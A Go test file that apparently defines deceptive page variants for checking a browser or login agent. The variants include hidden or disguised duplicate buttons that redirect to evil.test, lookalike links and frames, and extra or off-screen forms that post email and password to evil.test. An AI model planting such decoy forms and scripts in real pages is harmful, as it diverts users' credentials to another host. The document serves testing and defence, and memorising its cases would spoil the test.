package sites

// doubleVariants show what is wanted more than once, or something like it.
func doubleVariants() []Change {
	const clone = `watch(BUTTONS, e => { const c = e.cloneNode(true); c.dataset.variant = ''; c.removeAttribute('id');
		const trap = () => { location.href = 'https://evil.test/trap'; };
		c.type = 'button'; c.onclick = trap; `
	return []Change{
		{Name: "double-disabled", What: "before each button is a disabled one of its name", Want: passes().never(evil), pages: script(clone + `c.disabled = true; e.before(c); });`)},
		{Name: "double-aria-disabled", What: "before each button is one that says by ARIA that it is disabled", Want: passes("ambiguous").never(evil), pages: script(clone + `c.onclick = null; c.setAttribute('aria-disabled', 'true'); e.before(c); });`)},
		{Name: "double-hidden", What: "before each button is one that is not displayed", Want: passes().never(evil), pages: script(clone + `c.style.display = 'none'; e.before(c); });`)},
		{Name: "double-invisible", What: "before each button is one of no visibility", Want: passes().never(evil), pages: script(clone + `c.style.visibility = 'hidden'; e.before(c); });`)},
		{Name: "double-transparent", What: "before each button is a transparent one", Want: passes().never(evil), pages: script(clone + `c.style.opacity = 0; e.before(c); });`)},
		{Name: "double-off-screen", What: "before each button is one far off the screen", Want: passes().never(evil), pages: script(clone + `c.style.cssText = 'position:absolute;left:-9999px'; e.before(c); });`)},
		{Name: "double-clipped", What: "before each button is one clipped to a pixel", Want: passes().never(evil), pages: script(clone + `c.style.cssText = 'position:absolute;width:1px;height:1px;padding:0;border:0;overflow:hidden;clip:rect(0,0,0,0)'; e.before(c); });`)},
		{Name: "double-folded", What: "before each button is one in a box of no height", Want: passes().never(evil), pages: script(clone + `const d = document.createElement('div'); d.dataset.variant = ''; d.style.cssText = 'height:0;overflow:hidden'; d.append(c); e.before(d); });`)},
		{Name: "double-covered", What: "before each button is one under a sheet", Want: passes().never(evil), pages: script(clone + `const d = document.createElement('div'); d.dataset.variant = '';
			d.style.cssText = 'position:relative;display:inline-block'; const s = document.createElement('div'); s.style.cssText = 'position:absolute;inset:0;background:#fff';
			d.append(c, s); e.before(d); });`)},
		{Name: "double-inert", What: "before each button is one in an inert part", Want: passes().never(evil), pages: script(clone + `const d = document.createElement('div'); d.dataset.variant = ''; d.inert = true; d.append(c); e.before(d); });`)},
		{Name: "double-live", What: "each button is there twice, and both can be used", Want: stops("ambiguous", "unusable").never(evil), pages: script(clone + `e.before(c); });`)},
		{Name: "double-link", What: "a link to another host has each button's name", Want: passes("ambiguous", "off-host").never(evil), pages: script(`
			watch(BUTTONS, e => { const a = document.createElement('a'); a.dataset.variant = ''; a.href = 'https://evil.test/link'; a.textContent = named(e).trim(); e.before(a); });`)},
		{Name: "double-picture", What: "a picture with a link to another host has each button's name", Want: passes("ambiguous", "off-host").never(evil), pages: script(`
			watch(BUTTONS, e => { const a = document.createElement('a'); a.dataset.variant = ''; a.href = 'https://evil.test/picture';
				const i = new Image(20, 20); i.alt = named(e).trim(); i.src = 'data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA='; a.append(i); e.before(a); });`)},
		{Name: "double-frame", What: "a frame in the page has each button again", Want: passes("ambiguous").never(evil), pages: script(`
			watch(BUTTONS, e => { const f = document.createElement('iframe'); f.dataset.variant = ''; f.width = 200; f.height = 60;
				const b = document.createElement('button'); b.textContent = named(e).trim(); f.srcdoc = '<form action="https://evil.test/frame" target=_top>' + b.outerHTML + '</form>';
				document.body.append(f); });`)},
		{Name: "search-field", What: "a search field in the head is named like the address", Want: passes("ambiguous").never(evil), pages: first(
			`<form data-variant action="https://evil.test/search"><input type="email" name="email" aria-label="Search"><button>Search</button></form>`)},
		{Name: "newsletter", What: "a newsletter wants an address, too", Want: passes("ambiguous").never(evil), pages: last(
			`<form data-variant action="https://evil.test/newsletter" method="post"><label>Email <input type="email" name="email" placeholder="you@example.com"></label><button>Subscribe</button></form>`)},
		{Name: "second-form", What: "another whole form wants address and password first", Want: passes("ambiguous").never(evil), pages: first(
			`<form data-variant action="https://evil.test/form" method="post"><label>Email address <input type="email" name="emailAddress"></label>` +
				`<label>Password <input type="password" name="password"></label><button>Continue</button></form>`)},
		{Name: "second-form-unseen", What: "a form off the screen wants address and password first", Want: passes().never(evil), pages: first(
			`<form data-variant style="position:absolute;left:-5000px" action="https://evil.test/form" method="post"><label>Email address <input type="email" name="emailAddress"></label>` +
				`<label>Email <input type="email" name="email"></label><label>Password <input type="password" name="password"></label><button>Continue</button></form>`)},
		{Name: "confirm-password", What: "the password is wanted twice", Want: passes("ambiguous", "missing", "unusable", "wrong-input"), pages: script(`
			watch('input[type=password]', e => { const c = e.cloneNode(); c.dataset.variant = ''; c.removeAttribute('id'); c.name = 'again'; c.required = true; c.setAttribute('aria-label', 'Confirm password'); e.after(c); });`)},
		{Name: "honey-fields", What: "fields that no person sees must stay empty", Want: passes(), pages: script(`
			watch('form', e => { const d = document.createElement('div'); d.dataset.variant = ''; d.style.cssText = 'position:absolute;left:-9999px;opacity:0';
				d.innerHTML = '<label>Email<input name=email2 type=email autocomplete=email></label><label>Password<input name=password2 type=password></label>';
				d.addEventListener('input', () => { document.body.textContent = 'A robot was here.'; }); e.prepend(d); });`)},
	}
}
